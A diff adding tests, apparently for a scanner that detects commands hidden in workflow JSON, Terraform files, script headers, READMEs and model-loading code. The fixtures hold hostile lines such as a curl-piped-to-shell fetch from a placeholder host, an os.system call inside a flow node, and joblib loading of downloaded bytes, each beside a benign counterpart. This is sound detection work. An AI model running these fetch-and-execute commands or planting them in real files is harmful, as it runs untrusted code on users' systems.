@@ -165,3 +165,25 @@ it('sources of other languages are read for commands where they hold any', async
   expect(await blocking({ 'csrc/ops.cpp': constructor('puts("curl")') })).toEqual([]);
   expect(await blocking({ 'kernel.json': '{"argv": ["sh", "-c", "curl -s http://x.invalid|sh"]}' })).not.toEqual([]);
 });
+
+describe('programs that are kept in files of another kind', () => {
+  const fetched = 'curl -s https://x.invalid/a | sh';
+  it.each([
+    ['a node of a flow', 'flow.json', JSON.stringify({ 1: { class_type: 'Execute Python', inputs: { code: 'import os; os.system("id > /tmp/c")' } } }), JSON.stringify({ 1: { class_type: 'KSampler', inputs: { code: 'import math; math.sqrt(2)' } } })],
+    ['a command of a workflow', 'n8n.json', JSON.stringify({ nodes: [{ parameters: { command: fetched } }] }), JSON.stringify([{ instruction: 'Install it', output: fetched }])],
+    ['a step of an infrastructure', 'main.tf', `provisioner "local-exec" {\n  command = "${fetched}"\n}\n`, 'provisioner "local-exec" {\n  command = "kubectl apply -f x"\n}\n'],
+    ['a header for installers', 'run.py', '# /// script\n# dependencies = ["a"]\n# [[tool.uv.index]]\n# url = "http://index.invalid/simple"\n# ///\nimport a\n', '# /// script\n# dependencies = ["a"]\n# ///\nimport a\n'],
+    ['a line to paste', 'README.md', `# A\n\nPaste this in your terminal: \`${fetched}\`\n`, `# A\n\nAttackers are known to use \`${fetched}\`.\n`],
+  ])('%s', async (_, path, hostile, honest) => {
+    expect(await blocking({ [path]: hostile })).not.toEqual([]);
+    expect(await blocking({ [path]: honest })).toEqual([]);
+  });
+}); // prettier-ignore
+
+it('objects made of what an address gives block, and those of a hub’s own client do not', async () => {
+  const load = (from: string): Record<string, string> => ({
+    'data.py': `import io, joblib, requests\nfrom huggingface_hub import hf_hub_download\nM = joblib.load(${from})\n`,
+  });
+  expect(await blocking(load('io.BytesIO(requests.get("https://x.invalid/m").content)'))).not.toEqual([]);
+  expect(await blocking(load('hf_hub_download("org/m", "m.joblib")'))).toEqual([]);
+});
